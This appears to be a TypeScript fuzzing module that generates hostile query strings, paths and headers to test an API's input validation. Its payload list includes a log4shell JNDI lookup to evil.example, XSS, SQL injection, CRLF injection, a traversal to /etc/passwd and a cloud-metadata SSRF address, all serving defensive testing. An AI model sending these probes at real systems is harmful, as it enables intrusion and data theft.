import { REGION_NAMES } from '@export-ledger/contract';
import fc from 'fast-check';

/** Values that try to break out of a region name into a hostname, a path or a parser. */
export const HOSTILE_VALUES = [
  'us-east-1.evil.example',
  'evil.example',
  '127.0.0.1',
  'us-east-1@evil.example',
  'us-east-1#',
  'us-east-1/../../',
  '../',
  '..',
  '%2e%2e%2f',
  '\u0000',
  'us-east-1\u0000',
  'US-EAST-1',
  'Us-East-1',
  'us‐east‑1', // unicode hyphens
  'uѕ-east-1', // Cyrillic s
  'us-east-1 ',
  ' us-east-1',
  'us-east-1\r\nX-Injected: 1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, literally.
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '__proto__',
  'constructor',
  '[object Object]',
  '{}',
  '[]',
  'NaN',
  'Infinity',
  '-1',
  '1e9',
  '0x10',
  '',
  '%',
  '%zz',
  '+',
  '&',
  '=',
];

const KNOWN_KEYS = ['region', 'state', 'source', 'q', 'limit', 'cursor'];
const GOOD_VALUES: Record<string, string[]> = {
  region: [...REGION_NAMES],
  state: ['Started', 'Succeeded', 'Failed'],
  source: ['InstanceSnapshot', 'DiskSnapshot'],
  q: ['web', 'ami-', 'WordPress'],
  limit: ['1', '7', '50', '200'],
  cursor: ['eyJ2IjoxfQ.AAAA'],
};

/** Mostly printable text with the odd control, surrogate-free unicode and percent sign. */
const text = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(...HOSTILE_VALUES),
);

const value = (key: string, cursors: string[]) =>
  fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom(...(key === 'cursor' ? cursors : []), ...(GOOD_VALUES[key] ?? ['x'])),
    },
    { weight: 4, arbitrary: text },
    { weight: 1, arbitrary: fc.constant('9'.repeat(50)) },
  );

const pair = (cursors: string[]) =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .constantFrom(...KNOWN_KEYS)
        .chain((key) => fc.tuple(fc.constant(key), value(key, cursors))),
    },
    { weight: 1, arbitrary: fc.tuple(text, text) },
  );

/** Percent-encodes as a browser would, or leaves some characters raw as a hand-made URL might. */
const encode = (raw: string, loose: boolean) =>
  loose ? encodeURIComponent(raw).replaceAll('%25', '%').replaceAll('%2B', '+') : encodeURIComponent(raw);

/** Query strings of known and unknown keys; `cursors` are real ones, replayed with any filters. */
export const queryString = (cursors: string[]) =>
  fc
    .tuple(fc.array(pair(cursors), { maxLength: 8 }), fc.boolean())
    .map(([pairs, loose]) => pairs.map(([key, v]) => `${encode(key, loose)}=${encode(v, loose)}`).join('&'));

const segment = fc.oneof(
  fc.constantFrom(...REGION_NAMES.slice(0, 3)),
  fc.constantFrom('ExportSnapshotRecord-6e4c8bd0-1b5f-4d8f-9e0c-3a9f2d1c7b11', 'x'),
  text.map((raw) => encodeURIComponent(raw)),
  fc.constantFrom('..', '%2e%2e', '%2f', '..%2f..%2fetc%2fpasswd', '%00', '.', '%5c'),
);

export const path = fc.oneof(
  { weight: 6, arbitrary: fc.constant('/api/records') },
  { weight: 1, arbitrary: fc.constantFrom('/api/records.csv', '/api/records.ndjson') },
  { weight: 3, arbitrary: fc.tuple(segment, segment).map(([a, b]) => `/api/records/${a}/${b}`) },
  {
    weight: 1,
    arbitrary: fc.array(segment, { minLength: 1, maxLength: 4 }).map((s) => `/api/${s.join('/')}`),
  },
  { weight: 1, arbitrary: fc.constantFrom('/api/regions', '/api/meta', '/api', '/api/') },
);

const HEADER_NAMES = [
  'accept',
  'accept-language',
  'authorization',
  'cookie',
  'origin',
  'referer',
  'range',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-forwarded-proto',
  'forwarded',
  'x-http-method-override',
  'x-amz-target',
  'x-amz-security-token',
  'content-type',
  'x-request-id',
  'user-agent',
];

/** Header values an HTTP client will send: visible ASCII and spaces, no control characters. */
const headerValue = fc.oneof(
  fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 60 }),
  fc.constantFrom(
    'us-east-1.evil.example',
    'evil.example',
    '169.254.169.254',
    'Lightsail_20161128.DeleteInstance',
    'GetExportSnapshotRecords',
    'DELETE',
    'bytes=0-0',
    '*/*',
  ),
);

export const headers = fc
  .dictionary(fc.constantFrom(...HEADER_NAMES), headerValue, { maxKeys: 4 })
  .map((dict) => Object.fromEntries(Object.entries(dict).map(([key, v]) => [key, v.trim() || 'x'])));

export const method = fc.oneof(
  { weight: 12, arbitrary: fc.constant('GET') },
  { weight: 1, arbitrary: fc.constantFrom('HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE') },
);
